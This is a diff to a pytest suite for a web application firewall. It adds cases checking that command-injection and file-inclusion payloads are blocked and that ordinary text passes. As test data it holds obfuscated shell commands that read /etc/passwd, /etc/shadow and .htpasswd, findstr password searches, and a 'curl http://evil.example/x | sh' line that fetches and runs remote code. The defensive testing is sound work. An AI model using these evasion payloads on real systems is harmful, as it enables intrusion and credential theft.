@@ -351,6 +351,7 @@ def test_review_prose_with_more_function_words_reads_as_prose() -> None:
         ".github/workflows/ci.yml",
         "node_modules/.bin/eslint",
         ".vscode/settings.json",
+        ".env.example",
     ],
 )
 def test_dot_directories_as_query_values_pass_and_as_paths_block(value: str) -> None:
@@ -384,3 +385,32 @@ def test_markdown_headings_quotes_and_lists_do_not_make_text_code(text: str) -> 
 def test_markdown_decoration_does_not_hide_an_unquoted_payload() -> None:
     assert WAF.inspect(json_request("## x\n\n**a** $(cat /etc/passwd)", "body")).blocked
     assert WAF.inspect(json_request("> note\n\nx; curl http://evil.example/x | sh", "body")).blocked
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        ";/bin/c[a]t /etc/pass[w]d",
+        "$(${PATH:0:1}bin${PATH:0:1}id)",
+        "| findstr /si password *.xml",
+        "& set | findstr PATH",
+        "x;/usr/bin/wh[o]ami",
+    ],
+)
+def test_glob_classes_slash_variables_and_windows_tools_are_blocked(payload: str) -> None:
+    for verdict in _both(payload):
+        assert "cmdi-shell-structure" in _rules(verdict) and verdict.blocked, payload
+
+
+@pytest.mark.parametrize(
+    "text", ["Table for 4; set 2 places", "see items[0]; a[b]c works", "Use x[i]; then y[j]"]
+)
+def test_brackets_and_set_in_text_pass(text: str) -> None:
+    for verdict in _both(text):
+        assert not verdict.blocked, (text, verdict.matches)
+
+
+@pytest.mark.parametrize("payload", ["/./././etc/passwd", "/var/www/.htpasswd", "x/./etc/shadow"])
+def test_sensitive_files_behind_dot_segments_are_blocked(payload: str) -> None:
+    for verdict in _both(payload):
+        assert "lfi-sensitive-file" in _rules(verdict) and verdict.blocked, payload
